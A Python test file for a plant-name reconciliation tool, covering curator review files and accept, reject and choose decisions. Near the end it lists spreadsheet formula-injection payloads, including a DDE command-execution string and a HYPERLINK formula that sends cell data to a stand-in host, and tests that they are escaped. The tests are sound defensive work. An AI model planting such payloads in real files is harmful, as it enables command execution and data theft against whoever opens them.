"""The curator's review file and decisions: decisions win over the algorithm on every run.

Names are real (Guangxi checklist, Flora of China); the lists are small tables of them.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pytest

from mappings.reconcile import reconcile
from mappings.review import (
    REVIEW_COLUMNS,
    Decisions,
    load_decisions,
    record_decisions,
    save_decisions,
)
from node.core.errors import InvalidInput
from node.core.spreadsheet import safe_cell, unescape_cell


def _taxa(*rows: tuple[str, str]) -> pa.Table:
    """(scientificName, Chinese name) pairs as a Darwin Core taxon table."""
    return pa.table(
        {"scientificName": [name for name, _ in rows], "vernacularName": [zh for _, zh in rows]}
    )


LEFT = _taxa(
    ("Cassia alata Linn.", "翅荚决明"),
    ("Aristolochia tagala", ""),
    ("Chloranthus nultistachys Pei", "多穗金粟兰"),
    ("Lonicera dasystyla Rehd.", "水忍冬"),
    ("Lonicera confusa (Sweet) DC.", "华南忍冬"),
)
RIGHT = _taxa(
    ("Cassia alata Linnaeus", "翅荚决明"),
    ("Senna alata (Linnaeus) Roxburgh", "翅荚决明"),
    ("Aristolochia tagala Champion", ""),
    ("Aristolochia tagala Chamisso", "耳叶马兜铃"),
    ("Chloranthus multistachys Pei", "多穗金粟兰"),
    ("Lonicera confusa Candolle", "水忍冬"),
)


def _pairs(crosswalk) -> dict[str, list[dict]]:
    rows: dict[str, list[dict]] = {}
    for row in crosswalk.table.to_pylist():
        if row["left_name"]:
            rows.setdefault(row["left_name"], []).append(row)
    return rows


def _read(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_review_file__ambiguous_then_low_confidence_rows_first(tmp_path):
    crosswalk = reconcile(LEFT, RIGHT)
    crosswalk.write(tmp_path)
    rows = _read(tmp_path / "review.csv")
    assert list(rows[0]) == REVIEW_COLUMNS
    kinds = [r["match_kind"] for r in rows]
    assert kinds[:2] == ["ambiguous", "ambiguous"]
    # The vernacular link to a right name another left name matches exactly is weak.
    assert rows[2]["left_name"] == "Lonicera dasystyla Rehd."
    assert float(rows[2]["confidence"]) < 0.8
    confidences = [float(r["confidence"]) for r in rows[2:]]
    assert confidences[-1] == 1.0
    assert all(r["decision"] == "" and r["note"] == "" for r in rows)
    assert {r["left_name"] for r in rows} == set(LEFT.column("scientificName").to_pylist())


def test_decisions__choose_wins_over_the_algorithm_on_every_later_run(tmp_path):
    path = tmp_path / "home" / "mappings" / "decisions.csv"
    decisions = Decisions()
    decisions.add(
        "Aristolochia tagala", "", "choose:Aristolochia tagala Chamisso", "FoC 耳叶马兜铃"
    )
    path.parent.mkdir(parents=True)
    save_decisions(decisions, path)
    for _ in range(2):
        rows = _pairs(reconcile(LEFT, RIGHT, decisions=load_decisions(path)))
        (row,) = rows["Aristolochia tagala"]
        assert row["right_name"] == "Aristolochia tagala Chamisso"
        assert (row["decided_by"], row["confidence"]) == ("curator", 1.0)
        assert row["match_kind"] == "canonical"
        assert row["accepted_name"] == "Aristolochia tagala Chamisso"


def test_decisions__a_rejected_pair_is_never_proposed_again():
    decisions = Decisions()
    decisions.add("Cassia alata Linn.", "Cassia alata Linnaeus", "reject")
    rows = _pairs(reconcile(LEFT, RIGHT, decisions=decisions))
    (row,) = rows["Cassia alata Linn."]
    # The next stage takes over: the homotypic synonym with the same Chinese name.
    assert (row["match_kind"], row["right_name"]) == ("synonym", "Senna alata (Linnaeus) Roxburgh")
    decisions.add("Cassia alata Linn.", "Senna alata (Linnaeus) Roxburgh", "reject")
    (row,) = _pairs(reconcile(LEFT, RIGHT, decisions=decisions))["Cassia alata Linn."]
    assert row["match_kind"] == "none" and "curator rejected" in row["evidence"]


def test_decisions__accepting_one_candidate_settles_an_ambiguous_name():
    assert {r["match_kind"] for r in _pairs(reconcile(LEFT, RIGHT))["Aristolochia tagala"]} == {
        "ambiguous"
    }
    decisions = Decisions()
    decisions.add("Aristolochia tagala", "Aristolochia tagala Champion", "accept")
    (row,) = _pairs(reconcile(LEFT, RIGHT, decisions=decisions))["Aristolochia tagala"]
    assert (row["right_name"], row["decided_by"]) == ("Aristolochia tagala Champion", "curator")
    assert row["match_kind"] == "canonical" and row["accepted_name"]


def test_record_decisions__a_filled_review_file_reaches_the_node_decisions(tmp_path):
    reconcile(LEFT, RIGHT).write(tmp_path / "run")
    review = _read(tmp_path / "run" / "review.csv")
    for row in review:
        if row["left_name"] == "Lonicera dasystyla Rehd.":
            row["decision"] = "reject"
            row["note"] = "水忍冬 is L. confusa in FoC, already matched"
    with open(tmp_path / "run" / "review.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=REVIEW_COLUMNS)
        writer.writeheader()
        writer.writerows(review)
    home_decisions = tmp_path / "home" / "mappings" / "decisions.csv"
    kept = record_decisions(tmp_path / "run" / "review.csv", home_decisions)
    assert kept.rejected == {"Lonicera dasystyla Rehd.": {"Lonicera confusa Candolle"}}
    rows = _pairs(reconcile(LEFT, RIGHT, decisions=load_decisions(home_decisions)))
    assert all(
        r["right_name"] != "Lonicera confusa Candolle" for r in rows["Lonicera dasystyla Rehd."]
    )
    assert _read(home_decisions)[0]["note"] == "水忍冬 is L. confusa in FoC, already matched"


def test_load_decisions__a_missing_file_means_no_decisions_yet(tmp_path):
    assert len(load_decisions(tmp_path / "mappings" / "decisions.csv")) == 0


def test_load_decisions__an_unknown_decision_names_the_file_and_line(tmp_path):
    path = tmp_path / "decisions.csv"
    path.write_text(
        "left_name,right_name,decision,note\n"
        "Cassia alata Linn.,Senna alata (Linnaeus) Roxburgh,accept,\n"
        "Aristolochia tagala,,maybe,\n",
        encoding="utf-8",
    )
    with pytest.raises(InvalidInput, match=r"decisions.csv line 3: decision 'maybe'"):
        load_decisions(path)


def test_decisions__a_later_decision_replaces_an_earlier_one():
    decisions = Decisions()
    decisions.add("Cassia alata Linn.", "Cassia alata Linnaeus", "reject")
    decisions.add("Cassia alata Linn.", "Cassia alata Linnaeus", "accept")
    assert decisions.rejected["Cassia alata Linn."] == set()
    assert decisions.accepted["Cassia alata Linn."] == {"Cassia alata Linnaeus"}
    decisions.add("Cassia alata Linn.", "", "choose:Senna alata (Linnaeus) Roxburgh")
    assert decisions.chosen["Cassia alata Linn."] == "Senna alata (Linnaeus) Roxburgh"


def test_crosswalk__counts_and_accepted_names_for_exports():
    crosswalk = reconcile(LEFT, RIGHT)
    counts = crosswalk.left_counts
    assert counts["exact"] == 1 and counts["fuzzy"] == 1 and counts["ambiguous"] == 1
    assert sum(crosswalk.counts.values()) == crosswalk.table.num_rows
    accepted = crosswalk.accepted_names()
    assert accepted["Chloranthus nultistachys Pei"] == "Chloranthus multistachys Pei"
    assert accepted["Senna alata (Linnaeus) Roxburgh"] == "Senna alata (Linnaeus) Roxburgh"


# Formula-like names a partner's checklist can carry into files curators open.
FORMULAS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"Paphiopedilum")',
    "=cmd|' /C calc'!A0",
    "+Cassia alata",
    "-Cassia alata",
    "@SUM(1+1)",
    "'=already quoted",
)


@pytest.mark.parametrize("value", [*FORMULAS, "\tx", "\rx", "'", "''x", "Cassia alata", ""])
def test_safe_cell__escapes_formula_starts_and_reads_back_exactly(value: str) -> None:
    written = safe_cell(value)
    assert unescape_cell(written) == value
    assert written == value or written == "'" + value
    assert (written != value) == (value[:1] in ("=", "+", "-", "@", "\t", "\r", "'"))


def test_crosswalk_files__formula_like_names_are_written_as_text(tmp_path):
    hostile = _taxa(*((name, "") for name in FORMULAS), ("Cassia alata Linn.", "翅荚决明"))
    crosswalk = reconcile(hostile, RIGHT)
    paths = crosswalk.write(tmp_path)

    for kind in ("csv", "review"):
        cells = [v for row in _read(paths[kind]) for v in row.values() if v]
        risky = [v for v in cells if v[0] in "=+-@\t\r"]
        assert not risky, f"{kind}: {risky}"
        left = {row["left_name"] for row in _read(paths[kind])}
        assert {"'" + name for name in FORMULAS} <= left, kind


def test_decisions__a_reviewed_file_reads_back_the_names_as_they_were(tmp_path):
    hostile = _taxa(*((name, "") for name in FORMULAS))
    paths = reconcile(hostile, RIGHT).write(tmp_path)
    rows = _read(paths["review"])
    for row in rows:
        row["decision"] = "reject"
    with open(paths["review"], "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    decisions = load_decisions(paths["review"])

    assert {row["left_name"] for row in decisions.rows()} == set(FORMULAS)
